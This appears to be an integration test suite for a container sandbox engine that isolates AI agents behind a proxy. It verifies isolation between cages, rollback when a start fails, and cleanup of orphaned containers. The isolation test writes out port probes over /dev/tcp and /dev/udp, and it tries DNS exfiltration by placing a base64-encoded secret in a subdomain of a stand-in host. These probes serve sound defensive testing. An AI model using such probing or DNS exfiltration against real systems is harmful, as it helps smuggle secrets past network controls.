// Cages side by side, a shell-less agent image, failures in the middle of a start, orphan cleanup.
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type Docker from 'dockerode';
import * as packet from 'dns-packet';
import { EGRESS_NETWORK, names, type CageEngine, type CageInfo } from '../../src/engine';
import { allowPolicy, esc, leftovers, makeEngine, makeWorkspace, NOSHELL_IMAGE, prepare, rmrf, startUpstream, TEST_LABEL, tmpDir, type Upstream } from './setup';

// Host names only this file puts on the shared egress network (see test/shared/upstream.ts).
const ALLOWED = 'allowed.engine-isolation.test';

describe('cage isolation, shell-less images and failure cleanup', { timeout: 240_000 }, () => {
  let engine: CageEngine;
  let docker: Docker;
  let stateDir: string;
  let upstream: Upstream;
  const workspaces: string[] = [];
  const cageIds = () => workspaces.map((w) => engine.cageIdFor(w));
  const ws = (prefix: string) => {
    const w = makeWorkspace(prefix, allowPolicy(ALLOWED));
    workspaces.push(w);
    return w;
  };

  before(async () => {
    prepare();
    stateDir = tmpDir('caged-state-');
    engine = makeEngine(stateDir);
    docker = engine.docker;
    upstream = await startUpstream(docker, engine, { name: 'caged-agent-test-upstream-iso', hosts: [ALLOWED] });
  });

  after(async () => {
    for (const id of engine ? cageIds() : []) await engine.down(id, { images: true }).catch(() => {});
    await upstream?.stop();
    for (const w of workspaces) rmrf(w);
    rmrf(stateDir);
  });

  it('two cages side by side cannot see each other', async () => {
    const [a, b] = await Promise.all([
      engine.up({ workspace: ws('caged-a-'), upstreamCaPem: upstream.caPem }),
      engine.up({ workspace: ws('caged-b-'), upstreamCaPem: upstream.caPem }),
    ]);
    assert.notEqual(a.id, b.id);
    assert.notEqual(a.networkName, b.networkName);
    const bAgent = await docker.getContainer(b.agentContainerId!).inspect();
    const bProxy = await docker.getContainer(b.proxyContainerId!).inspect();
    const bAgentIp = bAgent.NetworkSettings.Networks[b.networkName].IPAddress;
    const bProxyIp = bProxy.NetworkSettings.Networks[b.networkName].IPAddress;
    const bProxyEgressIp = bProxy.NetworkSettings.Networks[EGRESS_NETWORK].IPAddress;
    // Names of the other cage resolve to A's own proxy only, as every name in a cage does (its DNS answers
    // every name with the proxy's address), never to B's addresses...
    const aProxyIp = (await docker.getContainer(a.proxyContainerId!).inspect()).NetworkSettings.Networks[a.networkName].IPAddress;
    for (const name of [names.agent(b.id), names.proxy(b.id)]) {
      const r = await engine.exec(a.id, ['getent', 'ahostsv4', name]);
      const addrs = [...new Set(r.stdout.trim().split('\n').filter(Boolean).map((l) => l.split(/\s+/)[0]))];
      assert.deepEqual(addrs, [aProxyIp], `${name} from cage A resolves to A's proxy only (got ${r.stdout})`);
    }
    // ...and its addresses are unreachable directly...
    for (const ip of [bAgentIp, bProxyIp, bProxyEgressIp]) {
      const r = await engine.exec(a.id, ['curl', '--noproxy', '*', '-sS', '-o', '/dev/null', '--connect-timeout', '2', `http://${ip}:3128/`]);
      assert.ok(r.exitCode === 7 || r.exitCode === 28, `direct ${ip} from A: exit ${r.exitCode} ${r.stderr}`);
    }
    // The proxies' egress addresses (A's own and B's): no route from a cage network to their DNS, 80, 443 or
    // explicit port, TCP or UDP (the proxy listens on its cage address only, and the cage network is internal).
    const aProxyEgressIp = (await docker.getContainer(a.proxyContainerId!).inspect()).NetworkSettings.Networks[EGRESS_NETWORK].IPAddress;
    const dnsQuery = (name: string, type: 'A' | 'TXT' | 'AAAA' | 'MX') => packet.encode({ type: 'query', id: 0x4242, flags: packet.RECURSION_DESIRED, questions: [{ type, name, class: 'IN' }] });
    const printf = (b: Buffer) => [...b].map((x) => '\\x' + x.toString(16).padStart(2, '0')).join('');
    const egressProbe = await engine.exec(a.id, ['bash', '-c', [
      `for ip in ${aProxyEgressIp} ${bProxyEgressIp}; do for p in 53 80 443 3128; do (timeout 3 bash -c "exec 3<>/dev/tcp/$ip/$p" 2>/dev/null && echo "tcp $ip:$p open") & done`,
      `(exec 3<>/dev/udp/$ip/53 && printf '${printf(dnsQuery('egress.example', 'A'))}' >&3 && timeout 2 dd bs=512 count=1 status=none <&3 | od -An -tx1 | grep -q . && echo "udp $ip:53 answered") 2>/dev/null & done; wait; echo done`,
    ].join('; ')]);
    assert.equal(egressProbe.stdout.trim(), 'done', `the proxies' egress side from cage A: ${egressProbe.stdout}`);
    // DNS sent straight to A's proxy (not through the engine's resolver) for names the agent made up, carrying
    // data: the answer is the proxy's own address or nothing, never a record with data the agent chose.
    const secretName = 'c2VjcmV0LXRva2VuLTEyMzQ1Ng.exfil-i19tp.example';
    for (const [name, type] of [[secretName, 'A'], [secretName, 'TXT'], [secretName, 'AAAA'], [secretName, 'MX'], ['caged-proxy', 'A']] as const) {
      const r = await engine.exec(a.id, ['bash', '-c', `exec 3<>/dev/udp/${aProxyIp}/53; printf '${printf(dnsQuery(name, type))}' >&3; timeout 3 dd bs=4096 count=1 status=none <&3 | od -An -v -tx1`]);
      const bytes = Buffer.from(r.stdout.replace(/\s+/g, ''), 'hex');
      assert.ok(bytes.length > 0, `${type} ${name}: no answer (${r.stderr})`);
      const reply = packet.decode(bytes);
      assert.equal(reply.id, 0x4242);
      assert.deepEqual(reply.questions?.map((q) => [q.name, q.type]), [[name, type]], 'the question is echoed, as DNS requires');
      const answers = (reply.answers ?? []).map((x) => [x.type, (x as { data?: unknown }).data]);
      assert.deepEqual(answers, type === 'A' ? [['A', aProxyIp]] : [], `${type} ${name}: only the proxy's own address`);
      assert.deepEqual([reply.authorities?.length ?? 0, reply.additionals?.length ?? 0], [0, 0], 'nothing else in the answer');
    }
    // ...and through A's proxy (IP literals are refused by policy).
    const viaProxy = await engine.exec(a.id, ['curl', '-sS', '-o', '/dev/null', '-w', '%{http_code}', '--max-time', '10', `http://${bProxyEgressIp}:3128/`]);
    assert.equal(viaProxy.stdout, '403');
    // Both cages still work for what their policy allows.
    for (const c of [a, b]) {
      const r = await engine.exec(c.id, ['curl', '-sS', `https://${ALLOWED}/`]);
      assert.equal(r.exitCode, 0, r.stderr);
    }
    await Promise.all([engine.down(a.id), engine.down(b.id)]);
    assert.deepEqual(await leftovers(docker, [a.id, b.id]), []);
  });

  it('a shell-less image without update-ca-certificates still trusts the cage CA', async () => {
    const w = ws('caged-noshell-');
    const cage = await engine.up({ workspace: w, agentImage: NOSHELL_IMAGE, upstreamCaPem: upstream.caPem, agentCommand: ['/usr/bin/curl', '-sS', `https://${ALLOWED}/from-noshell`] });
    const c = docker.getContainer(cage.agentContainerId!);
    const res = await c.wait();
    const logs = String(await c.logs({ stdout: true, stderr: true } as any));
    assert.equal(res.StatusCode, 0, logs);
    assert.match(logs, new RegExp(`hello from ${esc(ALLOWED)} GET /from-noshell`));
    // Really no shell in there.
    await assert.rejects(engine.openShell(cage.id, { cols: 80, rows: 24 }), /not running|no shell/);
    await engine.down(cage.id);
    assert.deepEqual(await leftovers(docker, [cage.id]), []);
  });

  it('a failure in the middle of a start (agent cannot start) undoes everything', async () => {
    const w = ws('caged-fail-');
    const id = engine.cageIdFor(w);
    await assert.rejects(
      engine.up({ workspace: w, upstreamCaPem: upstream.caPem, agentCommand: ['/no/such/program'] }),
      (e: Error) => {
        assert.match(e.message, /while starting the agent container \(step "agent-container"\)/);
        assert.match(e.message, /no such file or directory|not found/i);
        return true;
      },
    );
    assert.deepEqual(await leftovers(docker, [id]), []);
  });

  it('a proxy that cannot run fails at its step, with its reason, and leaves nothing', async () => {
    const w = ws('caged-badproxy-');
    const id = engine.cageIdFor(w);
    // The shell-less Debian image has no node: the proxy cannot start.
    await assert.rejects(engine.up({ workspace: w, proxyBaseImage: NOSHELL_IMAGE }), (e: Error) => {
      assert.match(e.message, /step "proxy-(container|healthy)"/);
      assert.match(e.message, /node/);
      return true;
    });
    assert.deepEqual(await leftovers(docker, [id]), []);
  });

  it('an agent image that cannot be found fails at the agent-image step and leaves nothing', async () => {
    const w = ws('caged-noimage-');
    const id = engine.cageIdFor(w);
    // A registry on loopback where nothing listens: the pull fails without leaving the machine.
    await assert.rejects(engine.up({ workspace: w, agentImage: '127.0.0.1:9/caged-agent-test/missing:1' }), (e: Error) => {
      assert.match(e.message, /step "agent-image"/);
      assert.match(e.message, /could not be pulled/);
      return true;
    });
    assert.deepEqual(await leftovers(docker, [id]), []);
  });

  it('when Docker has no address range left for the cage network, start says so and leaves nothing', async () => {
    const w = ws('caged-nopool-');
    const id = engine.cageIdFor(w);
    const fillers: string[] = [];
    try {
      // Use up the engine's default address pools with labelled filler networks (about 30 on a stock engine).
      for (let i = 0; i < 256; i++) {
        try {
          const n = await docker.createNetwork({ Name: `caged-agent-test-filler-${process.pid}-${i}`, Internal: true, Labels: { [TEST_LABEL]: '1' } } as any);
          fillers.push(n.id);
        } catch (e) {
          if (/non-overlapping|fully subnetted/.test(String((e as any)?.json?.message ?? e))) break;
          throw e;
        }
      }
      await assert.rejects(engine.up({ workspace: w }), (e: Error) => {
        assert.match(e.message, /no free address range left for another network/);
        assert.match(e.message, /default-address-pools/);
        assert.doesNotMatch(e.message, /bridge without a host address/);
        return true;
      });
      assert.deepEqual(await leftovers(docker, [id]), []);
    } finally {
      for (const f of fillers) await docker.getNetwork(f).remove().catch(() => {});
    }
  });

  it('gc removes a proxy whose agent is gone, its network and volume, and nothing else', async () => {
    const keep = await engine.up({ workspace: ws('caged-keep-'), upstreamCaPem: upstream.caPem });
    const orphan: CageInfo = await engine.up({ workspace: ws('caged-orphan-'), upstreamCaPem: upstream.caPem });
    await docker.getContainer(orphan.agentContainerId!).remove({ force: true });
    const listed = (await engine.list()).find((c) => c.id === orphan.id);
    assert.equal(listed?.state, 'agent-down');
    const mine = [keep.id, orphan.id];
    const young = await engine.gc({ cages: mine }); // default: leaves objects younger than a minute alone
    assert.ok(!young.containers.includes(names.proxy(orphan.id)));
    const r = await engine.gc({ minAgeMs: 0, cages: mine });
    assert.ok(r.containers.includes(names.proxy(orphan.id)), JSON.stringify(r));
    assert.ok(r.networks.includes(names.network(orphan.id)), JSON.stringify(r));
    assert.ok(r.volumes.includes(names.volume(orphan.id)), JSON.stringify(r));
    assert.deepEqual(await leftovers(docker, [orphan.id]), []);
    // The healthy cage and the test's own (unlabelled-by-cage) upstream are untouched.
    const still = (await engine.list()).find((c) => c.id === keep.id);
    assert.ok(still && ['healthy', 'starting'].includes(still.state));
    assert.equal((await docker.getContainer(upstream.containerId).inspect()).State.Running, true);
    await engine.down(keep.id);
    assert.deepEqual(await leftovers(docker, cageIds()), []);
  });
});
